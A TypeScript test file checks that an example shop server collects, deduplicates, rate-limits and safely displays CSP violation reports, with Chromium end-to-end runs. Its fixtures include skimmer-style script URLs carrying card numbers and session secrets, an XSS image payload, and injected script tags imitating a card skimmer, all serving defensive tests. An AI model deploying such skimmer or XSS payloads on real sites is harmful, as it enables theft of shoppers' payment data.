// CSP violation reports on the example merchant server, over real HTTP: the
// storefront pages' policy names where to report (report-to with
// Reporting-Endpoints, report-uri for older browsers); POST /csp-reports
// takes both wire formats, keeps each violation once with a count, and
// refuses what is not a report (content type, size, JSON, fields, other
// sites' pages, a client posting in a loop), with a bound on how many
// distinct violations are kept; the back-office page lists the violations
// escaped and is guarded like /reconciliation. And the whole way
// in a real browser: a script a storefront's policy blocks in Chromium
// reaches the report page.
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseCspReports } from '@wpwl/server/csp-reports';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { CSP_REPORT_READ_MS } from '../examples/merchant-server/src/csp-report-route.js';
import { CspReportStore } from '../examples/merchant-server/src/csp-report-store.js';
import { openDatabase, type DatabaseOptions } from '../examples/merchant-server/src/database.js';
import { CSP_REPORTS_PER_CLIENT, startMerchantServer, type MerchantServer } from '../examples/merchant-server/src/server.js';
import { findSharedFiles, findStorefronts, findVendorLibraries } from '../examples/merchant-server/src/storefronts.js';
import { CHROMIUM_ARGS, chromiumPath, launchBrowser, recordViolations, type TestBrowser } from './support/browser.js';
import { freshDataDir } from './support/data-dir.js';
import { rawRequest, type RawAnswer, type RawRequestOptions } from './support/raw-http.js';
import { startShopOnSandbox, type ShopOnSandbox } from './support/merchant.js';
import { ensureDatabase } from './support/postgres-server.mjs';

let world: ShopOnSandbox;
let shop: MerchantServer;

beforeAll(async () => {
  world = await startShopOnSandbox();
  shop = world.merchant;
});
afterAll(async () => {
  await world?.close();
});

const repo = fileURLToPath(new URL('..', import.meta.url)).replace(/\/$/, '');

/** One request to the shop, from `localAddress` (a loopback address of its own plays another client). */
const send = (path: string, options: RawRequestOptions & { base?: string } = {}): Promise<RawAnswer> =>
  rawRequest(new URL(path, options.base ?? shop.url), options);

const postReport = (contentType: string, body: unknown, localAddress?: string) =>
  send('/csp-reports', {
    method: 'POST',
    headers: { 'Content-Type': contentType, 'User-Agent': 'report-test-agent' },
    body: typeof body === 'string' ? body : JSON.stringify(body),
    localAddress,
  });

/** A report-uri report about a page of this shop. */
function legacyReport(fields: Record<string, unknown> = {}) {
  return {
    'csp-report': {
      'document-uri': `${shop.url}/core-storefront/?cart=4711`,
      'effective-directive': 'script-src-elem',
      'violated-directive': 'script-src-elem',
      'original-policy': "script-src 'self'",
      disposition: 'enforce',
      'blocked-uri': 'https://skimmer.example/collect.js?card=4111111111111111',
      'status-code': 200,
      ...fields,
    },
  };
}

/** The body rows of the page's violation table, each as its cells' text. */
function violationRows(html: string): string[][] {
  const body = /<table id="violations">[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) =>
    [...row[1]!.matchAll(/<t[hd][^>]*>([\s\S]*?)<\/t[hd]>/g)].map((cell) =>
      cell[1]!
        .replace(/<[^>]+>/g, ' ')
        .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)))
        .replace(/\s+/g, ' ')
        .trim(),
    ),
  );
}

const rowFor = (rows: string[][], blocked: string) => rows.find((row) => row[1]?.startsWith(blocked));

describe('the storefront policy', () => {
  it('over http names report-uri only: Chromium would report nothing once report-to is named', async () => {
    const page = await send('/core-storefront/');
    expect(page.status).toBe(200);
    const policy = String(page.headers['content-security-policy']);
    expect(policy).toMatch(/(^|; )report-uri \/csp-reports(;|$)/);
    expect(policy).not.toContain('report-to');
    expect(page.headers['reporting-endpoints']).toBeUndefined();
  });
});

describe('POST /csp-reports', () => {
  it('keeps a violation once, counting its repeats, and shows it on the page without the query', async () => {
    const report = legacyReport({ 'blocked-uri': 'https://skimmer.example/first.js?card=4111111111111111' });
    expect((await postReport('application/csp-report', report)).status).toBe(204);
    expect((await postReport('application/csp-report', report)).status).toBe(204);
    // The same violation through the Reporting API.
    const batch = [
      {
        type: 'csp-violation',
        age: 3,
        url: `${shop.url}/core-storefront/`,
        user_agent: 'Chrome/140 test',
        body: {
          documentURL: `${shop.url}/core-storefront/?cart=1`,
          blockedURL: 'https://skimmer.example/first.js',
          effectiveDirective: 'script-src-elem',
          disposition: 'enforce',
          statusCode: 200,
        },
      },
    ];
    expect((await postReport('application/reports+json', batch)).status).toBe(204);

    const page = await send('/csp-reports');
    expect(page.status).toBe(200);
    expect(page.body).not.toContain('4111111111111111');
    expect(page.body).not.toContain('cart=');
    const row = rowFor(violationRows(page.body), 'https://skimmer.example/first.js');
    expect(row).toEqual([
      'script-src-elem',
      'https://skimmer.example/first.js',
      `${shop.url}/core-storefront/`,
      '—',
      'blocked',
      '3',
      expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC$/),
      expect.stringMatching(/ UTC$/),
      'Chrome/140 test',
    ]);
  });

  it('shows what a browser sent as text, never as markup', async () => {
    const report = legacyReport({
      'blocked-uri': 'inline',
      'script-sample': '<img src=x onerror=alert(1)>',
      'source-file': `${shop.url}/x.js`,
    });
    expect((await postReport('application/csp-report', report)).status).toBe(204);
    const page = await send('/csp-reports');
    expect(page.body).not.toContain('<img src=x');
    expect(page.body).toContain('&#60;img src=x onerror=alert(1)&#62;');
  });

  it.each([
    ['text/plain', () => JSON.stringify(legacyReport()), 415, 'CSP_REPORT_CONTENT_TYPE', 'Content-Type'],
    ['application/csp-report', () => '{"csp-report":', 400, 'CSP_REPORT_JSON', 'body'],
    [
      'application/csp-report',
      () => JSON.stringify(legacyReport({ 'line-number': -1 })),
      400,
      'CSP_REPORT_INVALID',
      'csp-report.line-number',
    ],
    [
      'application/csp-report',
      () => JSON.stringify(legacyReport({ 'document-uri': 'https://elsewhere.example/' })),
      400,
      'CSP_REPORT_INVALID',
      'documentUrl',
    ],
    [
      'application/csp-report',
      () => JSON.stringify(legacyReport({ 'script-sample': 'x'.repeat(70 * 1024) })),
      413,
      'CSP_REPORT_TOO_LARGE',
      'body',
    ],
  ])('refuses %s (case %#): %i %s', async (contentType, body, status, code, field) => {
    const before = await shop.orders.cspReports.count();
    const answer = await postReport(contentType, body());
    expect(answer.status).toBe(status);
    expect(JSON.parse(answer.body)).toMatchObject({ error: { code, field } });
    expect(await shop.orders.cspReports.count()).toBe(before);
  });

  it('slows down one client posting in a loop, and not the others', async () => {
    const report = legacyReport({ 'blocked-uri': 'https://skimmer.example/loop.js' });
    const answers: number[] = [];
    for (let i = 0; i <= CSP_REPORTS_PER_CLIENT.burst; i++)
      answers.push((await postReport('application/csp-report', report, '127.0.0.7')).status);
    expect(answers.slice(0, -1).every((status) => status === 204)).toBe(true);
    const refused = await postReport('application/csp-report', report, '127.0.0.7');
    expect(refused.status).toBe(429);
    expect(Number(refused.headers['retry-after'])).toBeGreaterThanOrEqual(1);
    expect((await postReport('application/csp-report', report, '127.0.0.8')).status).toBe(204);
  });
});

describe('a report body sent slowly', () => {
  it(
    'is answered 408 and cut off once CSP_REPORT_READ_MS has passed, and nothing is kept',
    { timeout: CSP_REPORT_READ_MS + 20_000 },
    async () => {
      const before = await shop.orders.cspReports.count();
      const started = Date.now();
      const answer = await new Promise<{ status: number; body: string; closed: boolean }>((resolve, reject) => {
        const request = httpRequest(new URL('/csp-reports', shop.url), {
          method: 'POST',
          // Chunked, no length: a byte now and then, never the end.
          headers: { 'Content-Type': 'application/csp-report' },
          agent: false,
          localAddress: '127.0.0.41',
        });
        const drip = setInterval(() => request.write(' '), 500);
        request.write('{');
        request.on('response', (res) => {
          let body = '';
          res.setEncoding('utf8');
          res.on('data', (chunk: string) => (body += chunk));
          res.on('end', () => {
            request.socket?.once('close', () => {
              clearInterval(drip);
              resolve({ status: res.statusCode ?? 0, body, closed: true });
            });
            if (request.socket?.destroyed) {
              clearInterval(drip);
              resolve({ status: res.statusCode ?? 0, body, closed: true });
            }
          });
        });
        request.on('error', (error) => {
          clearInterval(drip);
          reject(error);
        });
      });
      expect(answer.status).toBe(408);
      expect(JSON.parse(answer.body)).toMatchObject({ error: { code: 'CSP_REPORT_TIMEOUT', field: 'body' } });
      expect(answer.closed).toBe(true);
      expect(Date.now() - started).toBeGreaterThanOrEqual(CSP_REPORT_READ_MS - 100);
      expect(Date.now() - started).toBeLessThan(CSP_REPORT_READ_MS + 5_000);
      expect(await shop.orders.cspReports.count()).toBe(before);
    },
  );
});

describe('the kept violations', () => {
  /** A fresh database of each kind the shop runs on, and how to throw it away. */
  const databases: Record<string, () => Promise<{ options: DatabaseOptions; remove(): void }>> = {
    embedded: async () => {
      const data = await freshDataDir();
      return { options: { dataDir: data.dir }, remove: data.remove };
    },
    postgres: async () => {
      const url = await ensureDatabase(inject('postgresUrl'), `wpwl_csp_${randomBytes(4).toString('hex')}`);
      return { options: { url }, remove: () => undefined };
    },
  };

  it.each(Object.keys(databases))(
    'are bounded (%s): past the most kept, known violations are still counted and new ones dropped',
    async (kind) => {
      const fresh = await databases[kind]!();
      const database = await openDatabase(fresh.options);
      try {
        const store = new CspReportStore(database.sql, { maxKept: 2 });
        const report = (blocked: string) =>
          parseCspReports(
            JSON.stringify(legacyReport({ 'blocked-uri': `https://skimmer.example/${blocked}.js` })),
            'application/csp-report',
          ).reports;
        expect(await store.record([...report('a'), ...report('b')], 'agent')).toEqual({ dropped: 0 });
        expect(await store.record([...report('c'), ...report('a')], 'agent')).toEqual({ dropped: 1 });
        expect(await store.count()).toBe(2);
        const kept = await store.newestFirst(0, 10);
        expect(kept.map((violation) => [violation.blocked, violation.count]).sort()).toEqual([
          ['https://skimmer.example/a.js', 2],
          ['https://skimmer.example/b.js', 1],
        ]);
        expect(kept[0]?.userAgent).toBe('agent');
        expect(kept[0]?.lastSeen.getTime()).toBeGreaterThanOrEqual(kept[0]!.firstSeen.getTime());
      } finally {
        await database.close();
        fresh.remove();
      }
    },
  );
});

describe('GET /csp-reports', () => {
  it('is served on this machine only, not through a proxy, and asks nothing of a browser', async () => {
    const proxied = await send('/csp-reports', { headers: { 'X-Forwarded-For': '203.0.113.9' } });
    expect(proxied.status).toBe(403);
    expect(proxied.body).not.toContain('skimmer.example');
    const own = await send('/csp-reports');
    expect(own.headers['content-security-policy']).toContain("default-src 'none'");
    expect(own.headers['cache-control']).toBe('no-store');
    expect((await send('/csp-reports', { method: 'DELETE' })).status).toBe(405);
  });
});

describe('a storefront in Chromium', () => {
  let browser: TestBrowser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('reports a script its policy blocks, and the report reaches the page', { timeout: 60_000 }, async () => {
    const tab = await browser.newPage();
    const violations = await recordViolations(tab.page);
    await tab.page.goto(`${shop.url}/core-storefront/?coupon=SHOPPER-SECRET`, { waitUntil: 'load' });
    // What a skimmer injected into the page would do.
    await tab.page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://skimmer.example/injected.js?session=SHOPPER-SECRET';
      document.head.append(script);
    });
    await expect.poll(() => violations).toContainEqual(expect.stringMatching(/^script-src-elem https:\/\/skimmer\.example\//));

    // Over http Chromium posts to report-uri at once; the page is polled for a bounded time.
    let row: string[] | undefined;
    let html = '';
    const deadline = Date.now() + 30_000;
    while (!row && Date.now() < deadline) {
      html = (await send('/csp-reports')).body;
      row = rowFor(violationRows(html), 'https://skimmer.example/injected.js');
      if (!row) await new Promise((resolve) => setTimeout(resolve, 500));
    }
    expect(row?.slice(0, 5)).toEqual([
      'script-src-elem',
      'https://skimmer.example/injected.js',
      `${shop.url}/core-storefront/`,
      expect.any(String),
      'blocked',
    ]);
    expect(html).not.toContain('SHOPPER-SECRET');
    await tab.close();
  });
});

/** Where openssl is: the https test makes its certificate with it. */
const hasOpenssl = (() => {
  try {
    execFileSync('openssl', ['version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

/**
 * The shop behind an https proxy on 127.0.0.1 (a certificate made for the
 * test), as shoppers reach a live shop: its PUBLIC_URL is https, so its
 * pages name report-to, and Chromium reports through the Reporting API.
 */
describe.skipIf(!hasOpenssl)('a storefront over https in Chromium', () => {
  let certDir: string;
  let proxy: HttpsServer;
  let secureShop: MerchantServer;
  let removeData: () => void;
  let upstream = '';

  beforeAll(async () => {
    certDir = mkdtempSync(join(tmpdir(), 'wpwl-csp-tls-'));
    const [key, cert] = [join(certDir, 'key.pem'), join(certDir, 'cert.pem')];
    const subject = ['-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'];
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, '-days', '1', ...subject], {
      stdio: 'ignore',
    });
    proxy = createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (req, res) => {
      const forward = httpRequest(
        new URL(req.url ?? '/', upstream),
        { method: req.method, headers: req.headers, agent: false },
        (answer) => {
          res.writeHead(answer.statusCode ?? 502, answer.headers);
          answer.pipe(res);
        },
      );
      forward.on('error', () => res.destroy());
      req.pipe(forward);
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const data = await freshDataDir();
    removeData = data.remove;
    const { sandbox } = world;
    secureShop = await startMerchantServer({
      database: { dataDir: data.dir },
      gateway: { baseUrl: sandbox.url, accessToken: sandbox.accessToken, entityId: sandbox.entityId },
      port: 0,
      recheckIntervalMs: 0,
      publicUrl: `https://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
      storefronts: findStorefronts(`${repo}/examples`),
      vendor: [...findVendorLibraries(`${repo}/packages`), ...findSharedFiles(`${repo}/examples`)],
    });
    upstream = secureShop.url;
  });
  afterAll(async () => {
    await new Promise((resolve) => proxy?.close(resolve));
    await secureShop?.close();
    removeData?.();
    if (certDir) rmSync(certDir, { recursive: true, force: true });
  });

  it('names report-to with Reporting-Endpoints, and the Reporting API report reaches the page', { timeout: 60_000 }, async () => {
    const publicUrl = `https://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
    // The Reporting API batches (a minute by default): this switch makes Chromium send at once.
    const browser = await chromium.launch({ executablePath: chromiumPath(), args: [...CHROMIUM_ARGS, '--short-reporting-delay'] });
    try {
      const context = await browser.newContext({ ignoreHTTPSErrors: true });
      const page = await context.newPage();
      const response = await page.goto(`${publicUrl}/core-storefront/?coupon=SHOPPER-SECRET`, { waitUntil: 'load' });
      const headers = response?.headers() ?? {};
      expect(headers['content-security-policy']).toMatch(/(^|; )report-to csp-endpoint; report-uri \/csp-reports$/);
      expect(headers['reporting-endpoints']).toBe('csp-endpoint="/csp-reports"');
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.src = 'https://skimmer.example/over-tls.js?session=SHOPPER-SECRET';
        document.head.append(script);
      });

      let row: string[] | undefined;
      const deadline = Date.now() + 30_000;
      while (!row && Date.now() < deadline) {
        const html = (await send('/csp-reports', { base: secureShop.url })).body;
        row = rowFor(violationRows(html), 'https://skimmer.example/over-tls.js');
        if (!row) await new Promise((resolve) => setTimeout(resolve, 500));
      }
      expect(row?.slice(0, 5)).toEqual([
        'script-src-elem',
        'https://skimmer.example/over-tls.js',
        `${publicUrl}/core-storefront/`,
        expect.any(String),
        'blocked',
      ]);
      // The Reporting API names the browser in the report itself.
      expect(row?.[8]).toMatch(/Chrom/);
    } finally {
      await browser.close();
    }
  });
});
